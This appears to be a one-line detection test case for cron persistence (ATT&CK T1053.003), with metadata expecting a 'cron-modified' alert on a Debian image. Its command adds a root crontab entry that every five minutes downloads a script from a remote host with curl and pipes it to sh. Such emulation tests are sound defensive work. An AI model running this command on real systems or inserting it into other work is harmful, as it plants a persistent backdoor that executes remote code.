# category: persistence
# technique: T1053.003
# art: no
# expect: cron-modified
# image: debian
# desc: root's crontab gets a beacon entry through crontab(1)
(crontab -l 2>/dev/null; echo '*/5 * * * * curl -s http://192.0.2.2/stage.sh | sh') | crontab -
